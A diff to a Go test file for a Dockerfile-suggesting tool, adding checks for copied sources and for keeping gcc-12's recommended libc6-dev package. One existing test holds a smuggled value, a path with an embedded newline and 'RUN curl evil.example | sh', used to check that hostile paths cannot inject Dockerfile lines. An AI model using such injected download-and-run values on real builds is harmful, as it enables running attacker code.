@@ -5,6 +5,7 @@ import (
 	"flag"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -246,6 +247,16 @@ func checkParses(t *testing.T, text string) *dockerfile.File {
 	return f
 }
 
+// copied reports whether a COPY source is p or a directory above it.
+func copied(copies []string, p string) bool {
+	for _, c := range copies {
+		if c == p || strings.HasPrefix(p, strings.TrimSuffix(c, "/")+"/") {
+			return true
+		}
+	}
+	return false
+}
+
 func golden(t *testing.T, name, text string) {
 	t.Helper()
 	p := filepath.Join("testdata", name+".Dockerfile")
@@ -280,8 +291,14 @@ func TestEntrypointScriptCallingGCC(t *testing.T) {
 	if !strings.Contains(got.Dockerfile, "# ? gcc-12 is a build-tool") {
 		t.Errorf("the question is not in the file:\n%s", got.Dockerfile)
 	}
-	if !contains(got.Copies, "/src/entrypoint.sh") {
-		t.Errorf("the script must be copied; copies %v", got.Copies)
+	// The script, and the sources gcc may compile at run time (asked).
+	for _, f := range []string{"/src/entrypoint.sh", "/src/wordfreq.c"} {
+		if !copied(got.Copies, f) {
+			t.Errorf("%s must be copied; copies %v", f, got.Copies)
+		}
+	}
+	if !strings.Contains(got.Dockerfile, "# ? 3 source file(s) the build wrote (13 kB) are copied, as the container runs gcc-12") {
+		t.Errorf("the kept sources are not asked about:\n%s", got.Dockerfile)
 	}
 	checkParses(t, got.Dockerfile)
 	golden(t, "c-entrypoint-gcc", got.Dockerfile)
@@ -384,5 +401,40 @@ func TestHostilePathForgesNoLine(t *testing.T) {
 	}
 	if len(got.Questions) != 2 || !strings.Contains(got.Questions[0], `"/opt/x\nRUN curl evil.example | sh"`) {
 		t.Errorf("questions %q", got.Questions)
+	}
+}
+
+// A build tool the container runs keeps what the original installed as its
+// recommendations: gcc-12 recommends libc6-dev (stdio.h, crt1.o), and the
+// final stage installs with --no-install-recommends, so libc6-dev must be
+// named or gcc cannot build the script's program. Without the Recommends
+// edge, nothing is added: the closure comes from the image's own graph.
+func TestToolRunKeepsItsRecommendations(t *testing.T) {
+	for _, tc := range []struct {
+		recommends bool
+		want       []string
+	}{{true, []string{"gcc-12", "libc6-dev"}}, {false, []string{"gcc-12"}}} {
+		fx := gccScriptFixture(t)
+		if tc.recommends {
+			old := "Depends: libisl23, libc6\n"
+			if !strings.Contains(fx.status, old) {
+				t.Fatal("the fixture's gcc-12 stanza changed")
+			}
+			fx.status = strings.Replace(fx.status, old, old+"Recommends: libc6-dev\n", 1)
+		}
+		got, err := Suggest(fx.build(t))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !slices.Equal(got.Packages, tc.want) {
+			t.Errorf("recommends %v: packages %v, want %v", tc.recommends, got.Packages, tc.want)
+		}
+		line := "RUN apt-get update && apt-get install -y --no-install-recommends " + strings.Join(tc.want, " ") + " \\"
+		if !strings.Contains(got.Dockerfile, line) {
+			t.Errorf("recommends %v: no line %q in\n%s", tc.recommends, line, got.Dockerfile)
+		}
+		if tc.recommends && !strings.Contains(got.Dockerfile, "#   libc6-dev: recommended by gcc-12, which the container runs, and installed with it in the original") {
+			t.Errorf("the reason for libc6-dev is not in the file:\n%s", got.Dockerfile)
+		}
 	}
 }
